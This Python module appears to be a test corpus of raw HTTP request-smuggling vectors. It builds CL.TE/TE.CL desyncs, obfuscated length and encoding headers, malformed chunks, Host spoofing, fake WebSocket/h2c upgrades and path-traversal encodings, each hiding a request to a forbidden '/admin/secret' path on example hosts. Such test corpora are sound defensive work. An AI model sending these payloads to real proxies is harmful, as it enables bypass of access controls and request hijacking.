"""Requests that two readers can understand differently: each hides a second one, for a path that no proxy allows.

The vectors are those of the research on request smuggling: CL.TE, TE.CL, TE.TE, obscure lengths and chunks, heads that
one reader ends earlier, and upgrades that never happen, after which a proxy could take the connection for a tunnel.
"""

from __future__ import annotations

from base64 import b64encode

#: The path that proxies do not allow, and all paths below it.
FORBIDDEN = "/admin"
HOST = "chat.example.com"
_HIDDEN = f"GET {FORBIDDEN}/secret HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
_CHUNKED_END = b"0\r\n\r\n"
_KEY = f"Sec-WebSocket-Key: {b64encode(bytes(16)).decode()}\r\n".encode()


def _post(fields: bytes, body: bytes, target: bytes = b"/open", host: bytes = HOST.encode()) -> bytes:
    return b"POST " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + fields + b"\r\n" + body


def _get(fields: bytes, target: bytes = b"/open", method: bytes = b"GET", host: bytes = HOST.encode()) -> bytes:
    return method + b" " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + fields + b"\r\n" + _HIDDEN


def _length(value: bytes, name: bytes = b"Content-Length: ") -> bytes:
    return name + value + b"\r\n"


def _lengths() -> dict[str, bytes]:
    whole = b"%d" % len(_HIDDEN)
    found = {
        "plus": _post(_length(b"+" + whole), _HIDDEN),
        "minus": _post(_length(b"-1"), _HIDDEN),
        "hex": _post(_length(b"0x10"), _HIDDEN),
        "space inside": _post(_length(b"0 5"), _HIDDEN),
        "tab before": _post(b"Content-Length:\t0\r\n", _HIDDEN),
        "space before colon": _post(_length(whole, b"Content-Length : "), _HIDDEN),
        "list": _post(_length(b"0, " + whole), _HIDDEN),
        "same list": _post(_length(b"0, 0"), _HIDDEN),
        "twice": _post(_length(b"0") + _length(whole), _HIDDEN),
        "twice the other way": _post(_length(whole) + _length(b"0"), _HIDDEN),
        "zeros": _post(_length(b"0" * 30), _HIDDEN),
        "huge": _post(_length(b"9" * 30), _HIDDEN),
        "overflow of 64 bits": _post(_length(b"%d" % (2**64)), _HIDDEN),
        "other digits": _post(_length("٠".encode()), _HIDDEN),
        "empty": _post(_length(b""), _HIDDEN),
        "float": _post(_length(b"0.0"), _HIDDEN),
        "quoted": _post(_length(b'"0"'), _HIDDEN),
        "zero": _post(_length(b"0"), _HIDDEN),
        "of a get": _get(_length(whole)),
        "of a head": _get(_length(b"0"), method=b"HEAD"),
        "none": _post(b"", _HIDDEN),
        "underscore": _post(_length(whole, b"Content_Length: "), _HIDDEN),
    }
    return {f"length {name}": data for name, data in found.items()}


def _encodings() -> dict[str, bytes]:
    chunk = b"%x\r\n" % len(_HIDDEN) + _HIDDEN + b"\r\n" + _CHUNKED_END
    found = {
        "CL.TE": _post(
            b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (5 + len(_HIDDEN)), b"0\r\n\r\n" + _HIDDEN
        ),
        "TE.CL": _post(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunk),
        "TE": _post(b"Transfer-Encoding: chunked\r\n", _CHUNKED_END + _HIDDEN),
        "TE of a get": _get(b"Transfer-Encoding: chunked\r\n"),
    }
    for name, field in {
        "xchunked": b"Transfer-Encoding: xchunked",
        "space": b"Transfer-Encoding : chunked",
        "tab": b"Transfer-Encoding:\tchunked",
        "vertical tab": b"Transfer-Encoding: \x0bchunked",
        "upper case": b"TRANSFER-ENCODING: CHUNKED",
        "quoted": b'Transfer-Encoding: "chunked"',
        "comma": b"Transfer-Encoding: chunked,",
        "identity": b"Transfer-Encoding: identity, chunked",
        "chunked identity": b"Transfer-Encoding: chunked, identity",
        "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "empty first": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
        "folded": b"Transfer-Encoding:\r\n chunked",
        "null": b"Transfer-Encoding: chunked\0",
        "line feed": b"X: y\nTransfer-Encoding: chunked",
        "carriage return": b"X: y\rTransfer-Encoding: chunked",
        "underscore": b"Transfer_Encoding: chunked",
        "no-break space": b"Transfer-Encoding: \xa0chunked",
        "semicolon": b"Transfer-Encoding: chunked;q=1",
    }.items():
        fields = field + b"\r\nContent-Length: %d\r\n"
        found[f"CL.TE {name}"] = _post(fields % (5 + len(_HIDDEN)), _CHUNKED_END + _HIDDEN)
        found[f"TE.CL {name}"] = _post(fields % 5, chunk)
    return found


def _chunks() -> dict[str, bytes]:
    def chunked(body: bytes) -> bytes:
        return _post(b"Transfer-Encoding: chunked\r\n", body)

    found = {
        "extension": chunked(b"0;a=b\r\n\r\n" + _HIDDEN),
        "extension with a line feed": chunked(b"1;\nx\r\n0\r\n\r\n" + _HIDDEN),
        "extension of a chunk": chunked(b'1;a="\r\n0\r\n\r\n' + _HIDDEN + b'"\r\nx\r\n0\r\n\r\n'),
        "bare line feeds": chunked(b"0\n\n" + _HIDDEN),
        "plus": chunked(b"+0\r\n\r\n" + _HIDDEN),
        "0x": chunked(b"0x0\r\n\r\n" + _HIDDEN),
        "space": chunked(b"0 \r\n\r\n" + _HIDDEN),
        "overflow": chunked(b"1" + b"0" * 16 + b"\r\n\r\n" + _HIDDEN),
        "trailer": chunked(b"0\r\nContent-Length: 0\r\n\r\n" + _HIDDEN),
        "no line end after data": chunked(b"1\r\nxx0\r\n\r\n" + _HIDDEN),
    }
    return {f"chunk {name}": data for name, data in found.items()}


def _heads() -> dict[str, bytes]:
    url = f"http://{HOST}".encode()
    found = {
        "bare line feeds": _get(b"X: y\r\n").replace(b"\r\n", b"\n"),
        "bare line feed at the end": b"GET /open HTTP/1.1\r\nHost: %s\r\nX: y\n\r\n" % HOST.encode() + _HIDDEN,
        "carriage return": _get(b"X: y\rZ: z\r\n"),
        "carriage returns as the end": b"GET /open HTTP/1.1\r\nHost: %s\r\r\n\r\r\n" % HOST.encode() + _HIDDEN,
        "folded": _get(b"X: y\r\n z\r\n"),
        "folded with a hidden request": _get(b"X: y\r\n\t" + _HIDDEN.replace(b"\r\n", b"\r\n\t") + b"\r\n"),
        "null in a value": _get(b"X: y\0z\r\n"),
        "null in a name": _get(b"X\0: y\r\n"),
        "no colon": _get(b"X\r\n"),
        "empty name": _get(b": y\r\n"),
        "space first": b"GET /open HTTP/1.1\r\n X: y\r\nHost: %s\r\n\r\n" % HOST.encode() + _HIDDEN,
        "null in the target": _get(b"", target=b"/open\0" + FORBIDDEN.encode()),
        "absolute URI": _get(b"", target=url + b"/open"),
        "absolute URI of another host": _get(b"", target=b"http://internal.example/open"),
        "absolute URI of the forbidden path": _get(b"", target=url + FORBIDDEN.encode()),
        "absolute URI without a path": _get(b"", target=url),
        "two hosts": _get(b"Host: internal.example\r\n"),
        "host with a path": _get(b"", host=HOST.encode() + FORBIDDEN.encode()),
        "host with a user": _get(b"", host=b"internal.example@" + HOST.encode()),
        "host with a port twice": _get(b"", host=HOST.encode() + b":80:80"),
        "host list": _get(b"", host=HOST.encode() + b", internal.example"),
        "authority": _get(b"", target=HOST.encode() + b":443", method=b"CONNECT"),
        "asterisk": _get(b"", target=b"*", method=b"OPTIONS"),
        "two spaces": b"GET  /open HTTP/1.1\r\nHost: %s\r\n\r\n" % HOST.encode() + _HIDDEN,
        "version 1.2": _get(b"").replace(b"HTTP/1.1", b"HTTP/1.2", 1),
        "version 0.9": b"GET /open\r\n" + _HIDDEN,
        "version 2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _HIDDEN,
        "pipelined": _get(b"Connection: keep-alive\r\n"),
        "connection names the length": _post(b"Connection: Content-Length\r\nContent-Length: 0\r\n", _HIDDEN),
        "expect": _post(b"Expect: 100-continue\r\nContent-Length: %d\r\n" % len(_HIDDEN), _HIDDEN),
    }
    return {f"head {name}": data for name, data in found.items()}


def _upgrades() -> dict[str, bytes]:
    upgrade = b"Upgrade: websocket\r\nConnection: Upgrade\r\n"
    right = upgrade + _KEY + b"Sec-WebSocket-Version: 13\r\n"
    h2c = b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
    found = {
        "wrong version": _get(upgrade + _KEY + b"Sec-WebSocket-Version: 1337\r\n", target=b"/chat"),
        "no version": _get(upgrade + _KEY, target=b"/chat"),
        "no key": _get(upgrade + b"Sec-WebSocket-Version: 13\r\n", target=b"/chat"),
        "two keys": _get(right + _KEY, target=b"/chat"),
        "no such path": _get(right, target=b"/nothing"),
        "plain path": _get(right),
        "another origin": _get(right + b"Origin: https://evil.example\r\n", target=b"/chat"),
        "post": _post(right + b"Content-Length: 0\r\n", _HIDDEN, target=b"/chat"),
        "post with a body": _post(right + b"Content-Length: %d\r\n" % len(_HIDDEN), _HIDDEN, target=b"/chat"),
        "get with a length": _get(right + b"Content-Length: %d\r\n" % len(_HIDDEN), target=b"/chat"),
        "get with chunks": _get(right + b"Transfer-Encoding: chunked\r\n", target=b"/chat"),
        "h2c": _get(h2c),
        "h2c of a websocket path": _get(h2c, target=b"/chat"),
        "h2c and websocket": _get(right.replace(b"websocket", b"h2c, websocket"), target=b"/chat"),
        "other protocol": _get(b"Upgrade: TLS/1.0\r\nConnection: Upgrade\r\n"),
        "without connection": _get(b"Upgrade: websocket\r\n" + _KEY, target=b"/chat"),
        "right": _get(right, target=b"/chat"),
        "right with an origin": _get(right + b"Origin: https://%s\r\n" % HOST.encode(), target=b"/chat"),
    }
    return {f"upgrade {name}": data for name, data in found.items()}


#: Targets with a segment `.` or `..` in their path.
DOT_TARGETS = (
    b"/./admin/secret",
    b"/open/../admin/secret",
    b"/open/%2e%2e/admin/secret",
    b"/open/..%2fadmin/secret",
    b"/admin/../open",
    b"/admin/secret/../../open",
    b"/admin/secret/%2e%2e/%2E%2E/open",
    b"/admin/x/..%2f..%2fopen",
    b"/admin/secret/../../open?a=/..",
    b"/admin/%2e%2e%5copen/..",
    b"/open/.",
)
_OTHER_TARGETS = (
    b"/admin/secret",
    b"/admin",
    b"/admin/",
    b"//admin/secret",
    b"/admin/secret/..;/..;/open",
    b"/%61dmin/secret",
    b"/admin%2fsecret",
    b"/%2fadmin/secret",
    b"/admin%00/secret",
    b"/admin%0d%0a/secret",
    b"/\\admin/secret",
    b"/admin\\secret",
    b"/ADMIN/secret",
    b"/admin;x=y/secret",
    b"/admin?/../open",
    b"/open?/../admin/secret",
    b"/open/%252e%252e/admin/secret",
    b"/admin/%c0%ae%c0%ae/open",
    b"/admin#/../open",
)


def _paths() -> dict[str, bytes]:
    host = HOST.encode()
    return {
        f"path {target.decode()}": b"GET " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n"
        for target in (*DOT_TARGETS, *_OTHER_TARGETS)
    }


#: The vectors by their names: what a client sends in one piece.
VECTORS = {**_lengths(), **_encodings(), **_chunks(), **_heads(), **_upgrades(), **_paths()}
